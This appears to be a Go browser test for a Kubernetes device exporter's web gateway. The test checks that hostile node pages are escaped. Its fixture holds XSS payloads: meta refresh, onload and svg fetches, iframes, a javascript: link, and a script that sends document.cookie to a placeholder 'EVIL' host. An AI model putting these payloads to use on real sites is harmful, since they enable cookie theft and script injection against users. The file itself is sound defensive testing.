package page

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/dra-exporter/dra-exporter/test/live"
	"github.com/dra-exporter/dra-exporter/test/simnode"
)

// hostilePage asks for addresses below EVIL, by itself or if it is clicked.
const hostilePage = `<!doctype html><title>node</title><meta http-equiv="refresh" content="0;url=EVIL/refresh">
	<link rel="stylesheet" href="EVIL/style"><body onload="fetch('EVIL/onload')"><img src="EVIL/image">
	<script>document.title = 'run'; fetch('EVIL/script?' + document.cookie)</script><script src="EVIL/source"></script>
	<svg onload="fetch('EVIL/svg')"></svg><iframe src="EVIL/frame"></iframe>
	<form action="EVIL/form" target="_top"><button>a</button></form><a href="javascript:void fetch('EVIL/link')">b</a>`

// hostileRows is the page's JSON, of which all texts are TEXT.
const hostileRows = `{"node":"node","version":TEXT,"time":TEXT,"wrong":[{"text":TEXT,"class":TEXT,"devices":[TEXT]}],
	"sums":[{"name":TEXT,"text":TEXT}],"tiles":[{"count":1,"state":TEXT,"meaning":TEXT,"class":TEXT}],
	"everywhere":[{"pods":TEXT,"claim":TEXT,"label":TEXT,"part":TEXT}],
	"troubles":[{"source":TEXT,"reason":TEXT,"do":TEXT}],"devices":[{"driver":TEXT,"pool":TEXT,"device":TEXT,"id":TEXT,
	"model":TEXT,"state":TEXT,"class":TEXT,"why":TEXT,"marks":[{"name":TEXT,"what":TEXT,"class":TEXT}],
	"holders":[{"pods":TEXT,"claim":TEXT,"label":TEXT}],"trend":TEXT,"power":[TEXT,1],"quiet":[TEXT,1]}],"ids":[TEXT],
	"claims":[[TEXT,TEXT,0,[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],TEXT]],"pods":[],
	"incidents":[{"id":TEXT,"state":TEXT,"class":TEXT,"text":TEXT,"since":[TEXT,1],"for":[TEXT,1],"last":[TEXT,1],"hit":TEXT,"lines":[TEXT],"mark":TEXT}]}`

// hostileDetail is the JSON of details, of which all texts are TEXT.
const hostileDetail = `{"Node":TEXT,"Title":TEXT,"Time":TEXT,"Sections":[{"Title":TEXT,"Head":[TEXT],
	"Rows":[[{"Text":TEXT,"Device":TEXT,"Class":TEXT}]]}],
	"Charts":[{"Title":TEXT,"Charts":[{"Name":TEXT,"Lines":[TEXT]}]}]}`

// testHostileNode opens a hostile page of a node: from the node itself, where it does all it wants,
// and through the gateway, which lays out what the node says, and where it does nothing.
func testHostileNode(t *testing.T, browser browser) {
	var mu sync.Mutex
	asked, cookies := map[string][]string{}, map[string][]string{} // by the host that was asked for
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		cookies[r.Host] = append(cookies[r.Host], r.Header.Get("Cookie"))
		if path, ok := strings.CutPrefix(r.URL.Path, "/evil/"); ok {
			asked[r.Host] = append(asked[r.Host], path)
			w.WriteHeader(http.StatusNoContent) // the browser stays where it is
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Set-Cookie", "evil=1")
		page := strings.ReplaceAll(hostilePage, "EVIL", "http://"+r.Host+"/evil")
		text, _ := json.Marshal(page)
		switch r.URL.Path {
		case "/page/rows":
			w.Header().Set("Content-Type", "application/json")
			page = strings.ReplaceAll(hostileRows, "TEXT", string(text))
		case "/page/detail":
			page = strings.ReplaceAll(hostileDetail, "TEXT", string(text))
		}
		_, _ = io.WriteString(w, page)
	}))
	t.Cleanup(server.Close)

	host := server.Listener.Addr().String()
	other := strings.Replace(host, "127.0.0.1", "localhost", 1)
	direct := browser.open(t, "http://"+other, view{width: 1300, height: 900})
	direct.expectErrors = true
	click := func(b *tab, what string) {
		value[bool](b, `document.querySelectorAll('`+what+`').forEach((e) => e.click()) ?? true`)
	}
	lacks := func(wanted string) error {
		mu.Lock()
		defer mu.Unlock()
		for want := range strings.FieldsSeq(wanted) {
			if !slices.Contains(asked[other], want) {
				return fmt.Errorf("%s is not in %q", want, asked[other])
			}
		}
		return nil
	}
	live.Await(t, limit, "the page does what it wants by itself", func() error { // which a click may stop
		return lacks("refresh style onload image script source svg frame")
	})
	live.Await(t, limit, "the page does what it wants", func() error {
		click(direct, []string{"a", "button"}[rand.N(2)]) // a form that is being sent stops a link
		return lacks("form link")
	})

	_, gateway := startGateway(t, server.URL)
	address := "http://" + gateway.Address + "/"
	b := browser.open(t, address, view{width: 1300, height: 900, user: "lead"})
	b.expectErrors = true // lines of charts that are no numbers
	value[bool](b, `Boolean(document.cookie = 'session=secret')`)
	address += "node/" + simnode.Name + "/"
	b.do(chromedp.Navigate(address))
	b.picture("hostile-node")
	b.await("some time later", `performance.now() > 2000`)
	b.await("the rows", `Boolean(document.querySelector('#tiles button')?.textContent.includes('<meta'))`)
	click(b, "main a, main button") // this would stop what the page does by itself
	b.await("the details", `Boolean(document.querySelector('dialog h2')?.textContent.includes('<meta'))`)
	b.await("some time later", `performance.now() > 4000`)
	const want = "node · dra-exporter session=secret "
	const shown = `document.title + ' ' + document.cookie + ' ' + location.origin + location.pathname`
	if got := value[string](b, shown); got != want+address {
		t.Errorf("the title, cookies and address are %q, want %q", got, want+address)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(asked[host]) > 0 || len(cookies[host]) == 0 || strings.Join(cookies[host], "") != "" {
		t.Errorf("the page asked for %q, and the node received the cookies %q", asked[host], cookies[host])
	}
}
